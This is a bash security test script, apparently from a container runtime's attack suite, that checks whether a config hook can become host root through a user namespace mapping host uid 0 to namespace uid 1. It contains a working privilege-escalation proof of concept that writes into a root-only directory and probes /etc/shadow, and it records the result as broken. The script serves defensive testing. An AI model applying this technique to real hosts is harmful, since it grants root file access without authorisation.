#!/bin/bash
# shellcheck disable=SC2016 # jq filters use their own $variables
# Attack: the fix of hook_root_partial_userns.sh skips BW110 whenever
# bulwark's own id (euid 0 of its user namespace) is a host uid other than
# 0 (c->hooks_unprivileged = bw_rootless() && bw_rootless_host_uid() != 0,
# src/runtime/policy_gate.c). But the namespace may map host uid 0 to
# another of its ids: uid_map "0 1000 1 / 1 0 1" (and the same for gids).
# bulwark is host uid 1000, so the config's hook is "unprivileged" and
# not judged; yet the hook runs with every capability of that namespace
# (CAP_SETUID in it) and becomes its uid 1, which is host uid 0: the owner
# of root's files (/etc/shadow, a root-only 0700 directory).
# Such a namespace needs host root to make (a service manager, a root
# wrapper that maps root in at another id, a subuid range that holds 0).
# Expected safe outcome: BW110 judges the hook whenever the namespace maps
#   host uid 0 (or host gid 0) at all, not only when bulwark itself is it.
# Observed (2026-12-06): BROKEN: the hook wrote a file owned by host uid 0
#   into the 0700 directory, and /etc/shadow tested writable.
set -u
source "$(dirname "$0")/lib.sh"
setup_bundle; trap 'teardown_bundle; rm -rf "$S"' EXIT
S=$(mktemp -d /tmp/bulwark-a6.XXXXXX); chmod 755 "$S"
mkdir "$S/rootonly"; chmod 700 "$S/rootonly"
proof=$S/rootonly/proof
chmod 755 "$BW_ROOT"; chown 1000:1000 "$BW_ROOT"
# the hook: take ns uid 1 (host 0), then write into root's 0700 directory
config_edit --arg p "$proof" '
  .mounts |= map(if .destination == "/dev/pts" then .options |= map(select(startswith("gid=") | not)) else . end)
  | .hooks = {"createRuntime":[{"path":"/usr/bin/setpriv","args":["setpriv","--reuid=1","--regid=1","--clear-groups","/bin/sh","-c","id -u > \($p); test -w /etc/shadow && echo shadow-writable >> \($p)"]}]}'
# a user namespace whose uid 0 is host 1000 and uid 1 host 0 (root writes
# the maps from outside, as a service manager would)
fifo=$S/go; mkfifo "$fifo"
unshare -U --keep-caps sh -c 'read x <"$0"; exec setpriv --reuid=0 --regid=0 --clear-groups --ambient-caps=-all "$@"' \
  "$fifo" "$BULWARK" --root "$BW_ROOT" run --bundle "$BUNDLE" a6mr$$ 2>"$S/err" >/dev/null &
p=$!
sleep 0.3
python3 -c 'import os, sys
for n in ("uid_map", "gid_map"):
    os.write(os.open("/proc/%s/%s" % (sys.argv[1], n), os.O_WRONLY), b"0 1000 1\n1 0 1\n")' "$p"
echo go >"$fifo"; wait "$p"
if [[ -s $proof ]]; then
  verdict BROKEN "the config's hook wrote into root's 0700 directory a file owned by host uid $(stat -c %u "$proof") ($(tr "\n" " " <"$proof"))"
else
  echo "bulwark said: $(head -c 600 "$S/err")"
  verdict SAFE "the hook did not run as host root"
fi
